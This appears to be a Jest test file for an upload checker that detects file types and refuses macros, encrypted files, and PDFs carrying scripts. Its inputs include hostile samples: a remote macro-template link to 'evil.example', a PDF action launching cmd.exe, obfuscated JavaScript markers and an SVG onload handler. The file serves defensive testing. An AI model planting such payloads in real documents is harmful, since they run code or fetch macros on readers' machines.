import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { docx, packedPdf, pdf, xlsx, zip } from '../../../../test/support/documents.js';
import type { DomainError } from '../../../domain/shared/domain-error.js';
import { examineFile } from './examine-file.js';

let folder: string;
beforeAll(async () => {
  folder = await mkdtemp(join(tmpdir(), 'examined-'));
});
afterAll(() => rm(folder, { recursive: true, force: true }));

/** What is found, or the code of the refusal. */
async function examine(content: Buffer | string, name = 'file', declared = ''): Promise<string> {
  const path = join(folder, 'content');
  const bytes = typeof content === 'string' ? Buffer.from(content, 'latin1') : content;
  await writeFile(path, bytes);
  return examineFile({ path, size: bytes.length, sha256: '' }, name, declared).then(
    ({ mediaType, remarks }) => [mediaType, ...remarks].join(' '),
    (error: DomainError) => error.code,
  );
}

const DOCX = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document';
const XLSX = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet';

describe('the kind of a file', () => {
  it('is read from its content', async () => {
    expect(await examine(pdf('<< /Type /Catalog >>'), 'a.pdf')).toBe('application/pdf');
    expect(await examine(Buffer.from('ffd8ffe000104a464946000101', 'hex'), 'a.jpg')).toBe('image/jpeg');
    expect(await examine('RIFF\u0024\0\0\0WEBPVP8 ', 'a.webp')).toBe('image/webp');
    expect(await examine('\0\0\0\u0018ftypheic\0\0\0\0mif1heic', 'IMG_1.HEIC')).toBe('image/heic');
  });
  it('tells a text document and a workbook from any other archive', async () => {
    expect(await examine(docx(), 'a.docx')).toBe(DOCX);
    expect(await examine(xlsx(), 'a.xlsx')).toBe(XLSX);
    expect(await examine(zip({ 'run.exe': 'MZ' }), 'a.xlsx')).toBe('FILE_TYPE_UNSUPPORTED');
  });
  it('is plain text or CSV where every byte is UTF-8 that a person writes', async () => {
    expect(await examine(Buffer.from('Имя;Доля\r\n'), 'list.CSV')).toBe('text/csv');
    expect(await examine('Words.\tMore words.\n', 'words')).toBe('text/plain');
    expect(await examine(Buffer.from('я'.repeat(200_000)), 'long.txt')).toBe('text/plain');
    expect(await examine(Buffer.from([0x49, 0xec, 0xff]), 'latin.txt')).toBe('FILE_TYPE_UNSUPPORTED');
    expect(await examine('a\0b', 'binary.txt')).toBe('FILE_TYPE_UNSUPPORTED');
  });
  it('is refused for pictures and programs that can carry code, and for nothing at all', async () => {
    expect(await examine('<?xml version="1.0"?><svg onload="x()"/>', 'a.svg')).toBe('FILE_TYPE_UNSUPPORTED');
    expect(await examine('MZ\u0090\0\u0003', 'a.pdf')).toBe('FILE_TYPE_UNSUPPORTED');
    expect(await examine('', 'a.pdf')).toBe('FILE_EMPTY');
  });
  it('is refused where the file is not what it says', async () => {
    expect(await examine(pdf(), 'photo.jpg', 'image/jpeg')).toBe('FILE_NOT_WHAT_IT_SAYS');
    expect(await examine('<script>x()</script>', 'page.html', 'text/plain')).toBe('FILE_NOT_WHAT_IT_SAYS');
  });
});

describe('an office file', () => {
  it('is refused with macros, whatever its name and declared type', async () => {
    expect(await examine(xlsx({ 'xl/vbaProject.bin': 'x' }), 'a.xlsx')).toBe('FILE_HAS_MACROS');
    expect(await examine(xlsx({ 'xl/macrosheets/sheet1.xml': '<x/>' }), 'a.xlsx')).toBe('FILE_HAS_MACROS');
    expect(await examine(docx({ 'word/activeX/activeX1.bin': 'x' }), 'a.docx')).toBe('FILE_HAS_MACROS');
  });
  it('is refused where it loads its template, and with it macros, from elsewhere', async () => {
    const template = (target: string) =>
      docx({ 'word/_rels/settings.xml.rels': `<Relationship Type="http://x/attachedTemplate" Target="${target}" TargetMode="External"/>` });
    expect(await examine(template('https://evil.example/t.dotm'), 'a.docx')).toBe('FILE_HAS_MACROS');
    expect(await examine(template('file:///C:/Templates/Letter.dotx'), 'a.docx')).toBe(DOCX);
  });
  it('is refused with a password, since nobody could review it', async () => {
    const encrypted = Buffer.concat([
      Buffer.from('d0cf11e0a1b11ae1', 'hex'),
      Buffer.alloc(600),
      Buffer.from('EncryptedPackage', 'utf16le'),
    ]);
    expect(await examine(encrypted, 'a.xlsx')).toBe('FILE_ENCRYPTED');
  });
  it('is marked where other files lie in it', async () => {
    expect(await examine(docx({ 'word/embeddings/book.xlsx': 'x' }), 'a.docx')).toBe(`${DOCX} attachments`);
  });
  it('is refused where its archive is cut off', async () => {
    expect(await examine(docx().subarray(0, -30), 'a.docx')).toBe('FILE_BROKEN');
  });
});

describe('a PDF', () => {
  it('is refused where it runs scripts or starts programs, however that is written', async () => {
    expect(await examine(pdf('<< /S /JavaScript /JS (app.alert(1)) >>'), 'a.pdf')).toBe('FILE_HAS_SCRIPTS');
    expect(await examine(pdf('<< /S/J#61vaScript /JS (1) >>'), 'a.pdf')).toBe('FILE_HAS_SCRIPTS');
    expect(await examine(pdf('<< /S /Launch /F (cmd.exe) >>'), 'a.pdf')).toBe('FILE_HAS_SCRIPTS');
    expect(await examine(packedPdf('1 0 << /S /JavaScript /JS (1) >>'), 'a.pdf')).toBe('FILE_HAS_SCRIPTS');
    expect(await examine(pdf('x'.repeat((1 << 20) - 40), '<< /S /JavaScript >>', 'y'.repeat(5_000)), 'a.pdf')).toBe('FILE_HAS_SCRIPTS');
  });
  it('is taken with an ordinary opening view and packed objects', async () => {
    expect(await examine(pdf('<< /OpenAction [3 0 R /Fit] >>'), 'a.pdf')).toBe('application/pdf');
    expect(await examine(packedPdf('1 0 << /Type /Page >>'), 'a.pdf')).toBe('application/pdf');
  });
  it('is marked where files lie in it, or where it is protected and could not be looked into', async () => {
    expect(await examine(pdf('<< /Names << /EmbeddedFiles 4 0 R >> >>'), 'a.pdf')).toBe('application/pdf attachments');
    expect(await examine(pdf('<< /Encrypt 9 0 R >>'), 'a.pdf')).toBe('application/pdf protected');
    expect(await examine(pdf('<< /Type /ObjStm /Filter /LZWDecode >>\nstream\nxxxx\nendstream'), 'a.pdf')).toBe(
      'application/pdf protected',
    );
  });
});
